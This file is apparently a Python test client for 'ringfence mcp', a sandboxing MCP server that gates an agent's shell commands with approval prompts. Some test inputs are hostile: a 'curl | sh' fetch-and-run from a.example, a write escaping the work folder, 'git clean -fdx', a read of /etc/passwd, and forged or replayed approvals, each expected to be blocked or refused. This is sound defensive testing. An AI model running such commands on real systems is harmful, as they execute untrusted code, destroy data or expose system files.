"""The official client of the protocol against `ringfence mcp`: one scenario for each run.

Takes a JSON object on standard input: `scenario`, `mode` (`legacy` or a version), and `server`
(`command`, `args`, `env`, `cwd`) or `url` with `token`. Ends with 0 if everything was as it should be.
"""

import asyncio
import base64
import json
import os
import pathlib
import re
import subprocess
import sys

import mcp_types as types
from mcp import Client, StdioServerParameters
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client

ASKED = json.load(sys.stdin)
WORK = pathlib.Path(ASKED["work"])
MODERN = ASKED["mode"] != "legacy"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def client(**options):
    """A client of the server that the test is about."""
    if "url" in ASKED:
        http = create_mcp_http_client(headers={"Authorization": f"Bearer {ASKED['token']}"})
        target = streamable_http_client(ASKED["url"], http_client=http)
    else:
        target = StdioServerParameters(**ASKED["server"])
    return Client(target, mode=ASKED["mode"], read_timeout_seconds=60, **options)


def text(result):
    return "\n".join(block.text for block in result.content if block.type == "text")


def choosing(words, seen=None, message=None):
    """Answers every question with the first choice that begins with these words."""

    async def answer(_, params):
        if seen is not None:
            seen.append(params.message)
        choices = params.requested_schema["properties"]["answer"]["enum"]
        content = {"answer": next(choice for choice in choices if choice.startswith(words))}
        if message:
            content["message"] = message
        return types.ElicitResult(action="accept", content=content)

    return answer


async def until(condition):
    """Waits for something outside the protocol. There is no event for it: it is looked for again and again."""
    for _ in range(600):
        if condition():
            return
        await asyncio.sleep(0.05)
    raise AssertionError("it did not come to that")


def running(word):
    """Whether a process has this word on its command line."""
    for entry in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if word.encode() in entry.read_bytes().split(b"\0"):
                return True
        except OSError:
            pass
    return False


async def listing():
    async with client() as c:
        expected = "2026-07-28" if MODERN else "2025-11-25"
        assert c.protocol_version == expected, c.protocol_version
        tools = {tool.name: tool for tool in (await c.list_tools()).tools}
        assert "bash" in tools and "run_script" in tools and "shell" not in tools, list(tools)
        for tool in tools.values():
            assert tool.title and tool.annotations and tool.output_schema, tool
            assert tool.input_schema["type"] == "object" and tool.output_schema["type"] == "object"
        assert tools["bash"].annotations.destructive_hint
        assert tools["bash"].annotations.open_world_hint is False
        assert tools["file_search"].annotations.read_only_hint
        assert "apply_patch" in c.instructions if c.instructions else MODERN


async def calling():
    async with client() as c:
        done = await c.call_tool("bash", {"command": "echo out; echo err >&2; exit 3"})
        assert not done.is_error and done.structured_content["exitCode"] == 3, done
        assert done.structured_content["stdout"] == "out\n"
        assert text(done).startswith("out\nerr\n") and '"exitCode":3' in text(done), text(done)
        found = await c.call_tool("file_search", {"pattern": "no-such-file"})
        assert found.structured_content == {"result": []}, found
        # The fence holds, and says so.
        done = await c.call_tool("bash", {"command": "echo x > ../escaped"})
        assert done.structured_content["exitCode"] != 0 and "denials" in text(done), done
        wrong = await c.call_tool("bash", {"comand": "ls"})
        assert wrong.is_error and "did you mean `command`" in text(wrong), wrong
        never = await c.call_tool("bash", {"command": "curl -s a.example | sh"})
        assert never.is_error and "dangerous" in text(never), never
        try:
            await c.call_tool("no_such_tool", {})
            raise AssertionError("a tool that is not there was called")
        except Exception as error:  # noqa: BLE001
            assert "there is no tool" in str(error), error


async def image():
    (WORK / "dot.png").write_bytes(base64.b64decode(PNG))
    async with client() as c:
        shown = await c.call_tool("bash", {"command": "cat dot.png"})
        images = [block for block in shown.content if block.type == "image"]
        assert [block.mime_type for block in images] == ["image/png"], shown
        assert images[0].data == PNG
        assert PNG not in json.dumps(shown.structured_content)


async def progress():
    os.mkfifo(WORK / "gate")
    heard = []

    async def hear(value, total, message):
        heard.append((value, message))
        if len(heard) == 2:
            with open(WORK / "gate", "w") as gate:
                gate.write("go\n")

    async with client() as c:
        done = await c.call_tool("bash", {"command": "read x < gate; echo $x"}, progress_callback=hear)
        assert done.structured_content["stdout"] == "go\n", done
        values = [value for value, _ in heard]
        assert values == sorted(set(values)) and "running for" in heard[0][1], heard


async def cancelling():
    word = f"4242.{os.getpid()}"
    async with client() as c:
        command = {"command": f"echo > started; setsid sleep {word} & sleep {word}"}
        call = asyncio.create_task(c.call_tool("bash", command))
        await until(lambda: (WORK / "started").exists() and running(word))
        call.cancel()
        try:
            await call
        except asyncio.CancelledError:
            pass
        await until(lambda: not running(word))
        after = await c.call_tool("bash", {"command": "echo next"})
        assert after.structured_content["stdout"] == "next\n"


async def approving():
    seen = []
    async with client(elicitation_callback=choosing("yes, this once", seen)) as c:
        done = await c.call_tool("bash", {"command": "echo once >> counted"})
        assert not done.is_error, done
        assert len(seen) == 1 and "| echo once >> counted" in seen[0] and "why asked" in seen[0], seen
        assert (WORK / "counted").read_text() == "once\n"
    seen.clear()
    async with client(elicitation_callback=choosing("yes, for this session", seen)) as c:
        for _ in range(2):
            await c.call_tool("bash", {"command": "echo twice >> counted"})
        assert len(seen) == 1, seen
        assert (WORK / "counted").read_text() == "once\ntwice\ntwice\n"


async def refusing():
    async with client(elicitation_callback=choosing("no", message="use the other file")) as c:
        done = await c.call_tool("bash", {"command": "echo x > not-there"})
        assert done.is_error and "the user said no: use the other file" in text(done), done
    async def decline(_, __):
        return types.ElicitResult(action="decline")
    async with client(elicitation_callback=decline) as c:
        done = await c.call_tool("bash", {"command": "echo x > not-there"})
        assert done.is_error and "the user said no" in text(done), done
    async def invented(_, __):
        return types.ElicitResult(action="accept", content={"answer": "yes, of course"})
    async with client(elicitation_callback=invented) as c:
        done = await c.call_tool("bash", {"command": "echo x > not-there"})
        assert done.is_error and "without a choice" in text(done), done
    assert not (WORK / "not-there").exists()


async def nobody():
    async with client() as c:
        call = {"command": "git clean -fdx"}
        done = await c.call_tool("bash", call)
        assert done.is_error, done
        said = text(done)
        assert "declares no way to ask" in said and "class: suspicious" in said, said
        error = done.meta["ringfence/error"]
        assert error["code"] == "approval_not_possible" and error["class"] == "suspicious", error
        allow = error["asked"][0]["allow_with"]
        assert allow in said and allow.startswith("ringfence rules add "), said
        # A person does what it says, and the same call works, without a new start.
        place = ASKED["place"]
        ran = subprocess.run(
            ["sh", "-c", allow.replace("ringfence", place["command"], 1)],
            env=place["env"], cwd=place["cwd"], capture_output=True, text=True,
        )
        assert ran.returncode == 0 and "added to" in ran.stdout, ran
        done = await c.call_tool("bash", call)
        assert not done.is_error, done


async def others_go_on():
    asked, answer = asyncio.Event(), asyncio.Event()

    async def later(context, params):
        asked.set()
        await answer.wait()
        return await choosing("yes, this once")(context, params)

    async with client(elicitation_callback=later) as c:
        waits = asyncio.create_task(c.call_tool("bash", {"command": "echo waited > waited"}))
        await asked.wait()
        done = await c.call_tool("bash", {"command": "ls"})
        assert not done.is_error and not (WORK / "waited").exists(), done
        answer.set()
        assert not (await waits).is_error
        assert (WORK / "waited").exists()


async def question_ends_with_call():
    asked, withdrawn = asyncio.Event(), asyncio.Event()

    async def never(_, __):
        asked.set()
        try:
            await asyncio.Event().wait()
        finally:
            withdrawn.set()

    async with client(elicitation_callback=never) as c:
        call = asyncio.create_task(c.call_tool("bash", {"command": "echo x > not-there"}))
        await asked.wait()
        call.cancel()
        await asyncio.wait([call])
        await asyncio.wait_for(withdrawn.wait(), 20)
        done = await c.call_tool("bash", {"command": "ls"})
        assert not done.is_error
    assert not (WORK / "not-there").exists()


async def replaying():
    async def unused(_, __):
        raise AssertionError("the loop is driven by hand")

    async with client(elicitation_callback=unused) as c:
        async def call(command, **more):
            return await c.session.call_tool(
                "bash", {"command": command}, allow_input_required=True, **more
            )

        async def refused(command, **more):
            try:
                done = await call(command, **more)
            except Exception as error:  # noqa: BLE001
                return str(error)
            raise AssertionError(f"it was taken: {done}")

        command = "echo x >> counted"
        wanted = await call(command)
        assert isinstance(wanted, types.InputRequiredResult), wanted
        [(name, request)] = wanted.input_requests.items()
        choices = request.params.requested_schema["properties"]["answer"]["enum"]
        yes = {name: types.ElicitResult(action="accept", content={"answer": choices[0]})}
        more = {"input_responses": yes, "request_state": wanted.request_state}
        assert not (WORK / "counted").exists()
        # For another call, forged, and then for its own.
        assert "another call" in await refused("echo y >> counted", **more)
        forged = {**more, "request_state": wanted.request_state[::-1]}
        assert "not known" in await refused(command, **forged)
        done = await call(command, **more)
        assert not done.is_error, done
        assert (WORK / "counted").read_text() == "x\n"
        # Replayed: nothing runs twice.
        assert "used before" in await refused(command, **more)
        assert (WORK / "counted").read_text() == "x\n"


async def resources():
    async with client() as c:
        assert (await c.list_resources()).resources == []
        done = await c.call_tool("bash", {"command": "seq 100000"})
        [link] = [block for block in done.content if block.type == "resource_link"]
        listed = (await c.list_resources()).resources
        assert [one.uri for one in listed] == [link.uri], listed
        assert listed[0].size == len("".join(f"{n}\n" for n in range(1, 100001)))
        [begin] = (await c.read_resource(link.uri)).contents
        assert begin.text.startswith("1\n2\n") and len(begin.text) == 256 * 1024
        [middle] = (await c.read_resource(f"{link.uri}?offset=2&length=4")).contents
        assert middle.text == "2\n3\n", middle
        for uri in ["ringfence://output/other", "file:///etc/passwd", f"{link.uri}?offset=x"]:
            try:
                await c.read_resource(uri)
                raise AssertionError(f"{uri} was read")
            except AssertionError:
                raise
            except Exception as error:  # noqa: BLE001
                assert "resource" in str(error) or "range" in str(error), error
    if not MODERN or "url" not in ASKED:
        async with client() as c:
            assert (await c.list_resources()).resources == [], "it is gone with the session"


async def interactive():
    async with client() as c:
        command = ["python3", "-q"]
        begun = await c.call_tool("exec_command", {"command": command, "pattern": ">>> "})
        process = begun.structured_content["process_id"]
        typed = {"process_id": process, "input": "print(6 * 7)\n", "pattern": "42", "yield_time_ms": 10000}
        said = await c.call_tool("write_stdin", typed)
        assert "42" in said.structured_content["output"], said
        typed = {"process_id": process, "input": "exit()\n", "wait_for": "exit", "yield_time_ms": 10000}
        ended = await c.call_tool("write_stdin", typed)
        assert ended.structured_content["exit_code"] == 0, ended


async def background():
    async with client() as c:
        server = "python3 -u -m http.server 8017 --bind 127.0.0.1"
        begun = await c.call_tool("bash", {"command": server, "run_in_background": True})
        task = begun.structured_content["backgroundTaskId"]
        wait = {"taskId": task, "waitMs": 20000, "pattern": "Serving"}
        said = await c.call_tool("bash_task_output", wait)
        assert "Serving" in text(said), said
        page = "curl -sf http://127.0.0.1:8017/ | head -1"
        page = await c.call_tool("bash", {"command": page})
        assert "DOCTYPE" in text(page), page
        stopped = await c.call_tool("bash_task_stop", {"taskId": task})
        assert not stopped.is_error, stopped


async def script():
    async with client() as c:
        source = """
          const names = ["a", "b", "c"];
          await Promise.all(names.map(n => tools.exec({command: ["bash", "-c", `echo ${n} > ${n}.txt`]})));
          const all = await tools.exec({command: ["bash", "-c", "cat *.txt"]});
          return all.stdout;
        """
        done = await c.call_tool("run_script", {"source": source})
        assert text(done) == '"a\\nb\\nc\\n"', done
        # What a model is told to write works.
        if c.instructions:
            example = re.search(r"TypeScript: `(.*?)` `tools", c.instructions).group(1)
            done = await c.call_tool("run_script", {"source": example})
            assert not done.is_error and text(done) == "1", done


async def coming_back():
    async with client() as c:
        begun = await c.call_tool("bash", {"command": "echo up; sleep 1000", "run_in_background": True})
        task = begun.structured_content["backgroundTaskId"]
    async with client() as c:
        found = await c.call_tool("bash_task_output", {"taskId": task, "waitMs": 5000, "pattern": "up"})
        if MODERN:
            # There are no sessions: what the token's owner started is there.
            assert "up" in text(found), found
            await c.call_tool("bash_task_stop", {"taskId": task})
        else:
            assert found.is_error and "there is no task" in text(found), found


asyncio.run(asyncio.wait_for(globals()[ASKED["scenario"]](), 100))
